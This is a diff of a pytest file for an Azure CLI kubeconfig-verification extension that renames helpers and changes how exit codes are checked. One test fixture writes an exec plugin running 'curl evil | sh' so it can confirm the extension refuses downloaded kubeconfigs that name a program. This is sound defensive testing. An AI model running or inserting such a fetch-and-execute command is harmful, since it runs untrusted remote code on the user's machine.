@@ -9,8 +9,9 @@ import os
 import pytest
 from azure.cli.core.azclierror import AzCLIError
 
+from azext_kmsverify.errors import exit_code
 from azext_kmsverify.auth import kubeconfig as kc
-from azext_kmsverify.auth.entra import replace_kubelogin
+from azext_kmsverify.auth.entra import sign_in
 
 CA = base64.b64encode(b'-----BEGIN CERTIFICATE-----\nnot really\n-----END CERTIFICATE-----\n').decode()
 BASE = {
@@ -49,18 +50,18 @@ def _outcome(config):
     try:
         resolved = kc.resolve(config, None, source="--kubeconfig 'k'", base_dir='/nonexistent')
     except AzCLIError as error:
-        assert getattr(error, 'kmsverify_exit_code', None) == 2, error.error_msg
+        assert exit_code(error) == 2, error.error_msg
         assert '\n' not in error.error_msg
         return 'refused'
     assert isinstance(resolved.server, str) and resolved.server
     # What survives the check goes through the kubernetes client's loader: it may refuse (exit 2), not crash.
     from azext_kmsverify.auth.memfiles import MemoryFiles
-    from azext_kmsverify.kube.compat import load_configuration
+    from azext_kmsverify.kube.compat import load
     with MemoryFiles() as files:
         try:
-            load_configuration(resolved, files.add)
+            load(resolved, files.add)
         except AzCLIError as error:
-            assert getattr(error, 'kmsverify_exit_code', None) == 2, error.error_msg
+            assert exit_code(error) == 2, error.error_msg
             return 'refused by the loader'
     return 'accepted'
 
@@ -97,7 +98,7 @@ def test_what_kubectl_refuses_is_one_line(mutate, message):
     with pytest.raises(AzCLIError) as info:
         kc.resolve(config, None, source="--kubeconfig 'k'", base_dir='/nonexistent')
     assert message in info.value.error_msg
-    assert info.value.kmsverify_exit_code == 2
+    assert exit_code(info.value) == 2
 
 
 def test_a_relative_path_resolves_against_the_kubeconfig_folder(tmp_path):
@@ -135,7 +136,7 @@ def test_an_exec_plugin_from_azure_other_than_kubelogin_is_refused():
     config = copy.deepcopy(BASE)
     config['users'][0]['user'] = {'exec': {'command': '/bin/sh', 'args': ['-c', 'curl evil | sh']}}
     resolved = kc.resolve(config, None, source=kc.AZURE_SOURCE, from_azure=True)
-    with pytest.raises(AzCLIError, match="runs no program named by a downloaded kubeconfig"):
-        replace_kubelogin(None, resolved)
+    with pytest.raises(AzCLIError, match='runs no program named by a downloaded kubeconfig'):
+        sign_in(None, resolved)
     mine = kc.resolve(config, None, source="--kubeconfig 'k'")
-    assert replace_kubelogin(None, mine) is mine  # the user chose the file, as with kubectl
+    assert sign_in(None, mine)[0] is mine  # the user chose the file, as with kubectl
